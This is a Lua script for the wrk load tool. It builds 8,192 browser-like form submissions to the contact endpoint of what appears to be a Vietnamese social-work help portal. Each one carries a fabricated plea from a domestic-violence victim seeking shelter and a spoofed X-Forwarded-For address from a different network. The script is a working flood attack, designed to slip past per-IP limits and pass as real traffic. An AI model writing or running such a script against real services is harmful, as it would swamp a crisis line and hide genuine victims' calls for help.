-- 8,192 forms as a browser posts them, made before the first is sent: each from a network of its own, each other words.
local size = 8192
local requests = {}
local place = 0
local mark = "------portal"
local genuine = "Chồng tôi lại say và đánh tôi trước mặt con. Tôi sợ lắm, không biết đi đâu. Xin cho tôi hỏi có chỗ nào ở tạm không? "

local part = function(name, value)
  return "--" .. mark .. '\r\nContent-Disposition: form-data; name="' .. name .. '"\r\n\r\n' .. value .. "\r\n"
end

init = function(args)
  for number = 1, size do
    local body = part("purpose", "help") .. part("consent", "yes")
      .. part("message", genuine .. "Nhà số " .. number .. " ngõ ví dụ.") .. part("contact", "nhắn tin thôi")
      .. "--" .. mark .. "--\r\n"
    requests[number] = table.concat({
      "POST /api/contact HTTP/1.1",
      "Host: ctxh.example.vn",
      "User-Agent: Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
      "Accept-Language: vi-VN,vi;q=0.9",
      "Origin: https://ctxh.example.vn",
      "Content-Type: multipart/form-data; boundary=" .. mark,
      "Content-Length: " .. #body,
      "X-Forwarded-For: 2001:db8:" .. string.format("%x", number) .. "::1",
      "Connection: keep-alive",
      "", body,
    }, "\r\n")
  end
end

request = function()
  place = place % size + 1
  return requests[place]
end
